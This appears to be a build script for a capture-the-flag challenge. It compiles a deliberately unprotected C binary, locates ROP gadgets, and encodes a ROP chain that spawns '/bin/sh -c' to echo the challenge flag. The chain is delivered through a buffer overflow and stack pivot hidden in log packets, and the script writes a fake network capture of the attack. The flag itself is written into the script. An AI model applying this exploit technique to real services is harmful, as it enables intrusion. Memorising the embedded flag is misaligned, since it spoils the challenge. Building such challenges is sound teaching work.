import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

const folder = fileURLToPath(new URL('.', import.meta.url));
execFileSync(
  'gcc',
  [
    ...['-O1', '-w', '-nostdlib', '-static', '-no-pie', '-fno-stack-protector', '-fcf-protection=none'],
    ...['-fno-asynchronous-unwind-tables', '-fno-builtin', '-Wl,--build-id=none', '-Wl,-z,noexecstack'],
    ...['-o', '../files/guindeau', 'guindeau.c'],
  ],
  { cwd: `${folder}bonus` },
);
const elfPath = `${folder}files/guindeau`;
const symbols = execFileSync('nm', [elfPath], { encoding: 'utf8' });
const addressOf = (name: string) =>
  BigInt(`0x${new RegExp(`^([0-9a-f]+) . ${name}$`, 'm').exec(symbols)![1]}`);
const JOURNAL = addressOf('journal');
execFileSync('strip', ['-s', elfPath]);

const elf = readFileSync(elfPath);
const CODE_OFFSET = 0x1000;
const CODE_ADDRESS = 0x401000n;
function gadget(hex: string): bigint {
  const at = elf.indexOf(Buffer.from(hex, 'hex'), CODE_OFFSET);
  if (at < 0) throw new Error(`no gadget ${hex}`);
  return CODE_ADDRESS + BigInt(at - CODE_OFFSET);
}
const popRax = gadget('58c3');
const popRdi = gadget('5fc3');
const popRcx = gadget('59c3');
const popRdx = gadget('5ac3');
const popRsi = gadget('5ec3');
const popRsp = gadget('5cc3');
const storeRax = gadget('488907c3');
const rolRax = gadget('48d3c0c3');
const xorRax = gadget('4831d0c3');
const addRdx = gadget('4801c2c3');
const notRax = gadget('48f7d0c3');
const syscall = gadget('0f05');

const MASK = (1n << 64n) - 1n;
const ror = (word: bigint, by: bigint) => ((word >> by) | (word << (64n - by))) & MASK;

const SCRATCH = JOURNAL + 0xc00n;
const shell = '/bin/sh\0-c\0\0\0\0\0\0';
const text = `${shell}echo 'FANION{chaque_maillon_tire_le_suivant}' >&2 # coupez la chaine\0`;
const memory = Buffer.alloc(Math.ceil(text.length / 8) * 8, 0);
memory.write(text, 'latin1');

let seed = 20250;
const random = (below: number) => {
  seed = (Math.imul(seed, 1103515245) + 12345) & 0x7fffffff;
  return (seed >> 8) % below;
};
const order = Array.from({ length: memory.length / 8 }, (_, index) => index);
for (let at = order.length - 1; at > 0; at--) {
  const other = random(at + 1);
  [order[at], order[other]] = [order[other]!, order[at]!];
}

let key = 0x4d6f75696c6c6167n;
const chain: bigint[] = [popRdx, key];
for (const index of order) {
  const plain = memory.readBigUInt64LE(index * 8);
  const turn = BigInt(1 + random(62));
  const negated = random(2) === 1;
  const masked = plain ^ key;
  chain.push(popRcx, turn, popRax, ror(negated ? ~masked & MASK : masked, turn), rolRax);
  if (negated) chain.push(notRax);
  chain.push(xorRax, popRdi, SCRATCH + BigInt(index * 8), storeRax, addRdx);
  key = (key + plain) & MASK;
}
const argv = SCRATCH + 0x100n;
[SCRATCH, SCRATCH + 8n, SCRATCH + 16n, 0n].forEach((pointer, index) => {
  chain.push(popRdi, argv + BigInt(index * 8), popRax, pointer, storeRax);
});
chain.push(popRax, 59n, popRdi, SCRATCH, popRsi, argv, popRdx, 0n, syscall);

const words = (list: bigint[]) => {
  const bytes = Buffer.alloc(list.length * 8);
  for (const [index, word] of list.entries()) bytes.writeBigUInt64LE(word, index * 8);
  return bytes;
};
const packet = (letter: string, body: Buffer) => {
  const header = Buffer.alloc(3);
  header.write(letter);
  header.writeUInt16LE(body.length, 1);
  return Buffer.concat([header, body]);
};
const notes = [
  'Mouillage devant Port-Louis, fond de vase, 35 m de chaine.',
  'Vent SO 5, la chaine raidit. Quart de nuit : Le Goff.',
  'RAS a la releve de 4 h.',
].map((note) => Buffer.from(`${note}\n`, 'latin1'));
const before = notes.reduce((sum, note) => sum + note.length, 0);
const lead = Buffer.from('Controle des maillons : '.padEnd(40, '.'), 'latin1');
const pivot = JOURNAL + BigInt(before + lead.length);
const padding = Buffer.from('bosco, la chaine chasse '.repeat(8), 'latin1').subarray(0, 104);
const sent = [
  packet('J', notes[0]!),
  packet('M', Buffer.from('Tout va bien a bord.')),
  packet('J', notes[1]!),
  packet('J', notes[2]!),
  packet('M', Buffer.from('Changement de quart.')),
  packet('J', Buffer.concat([lead, words(chain)])),
  packet('M', Buffer.concat([padding, words([popRsp, pivot])])),
];

const dump = (bytes: Buffer) =>
  Array.from({ length: Math.ceil(bytes.length / 16) }, (_, row) => {
    const line = bytes.subarray(row * 16, row * 16 + 16);
    const hex = line.toString('hex').replace(/(..)(?=.)/g, '$1 ');
    const shown = line.toString('latin1').replace(/[^\x20-\x7e]/g, '.');
    return `${(row * 16).toString(16).padStart(8, '0')}  ${hex.padEnd(47)}  ${shown}`;
  }).join('\n');
const capture = sent.map((bytes, index) => {
  const minute = String(12 + index * 5).padStart(2, '0');
  const answer = bytes[0] === 0x4a ? 'note\n' : 'recu\n';
  const reply = `\n--- 04:${minute}:10 serveur -> client, ${answer.length} octets\n${dump(Buffer.from(answer))}\n`;
  const gone = index === sent.length - 1 ? '\n--- 04:42:10 le processus guindeau a disparu\n' : '';
  return `--- 04:${minute}:09 client -> serveur, ${bytes.length} octets\n${dump(bytes)}\n${reply}${gone}`;
});
writeFileSync(`${folder}files/capture.txt`, `${capture.join('\n')}`);
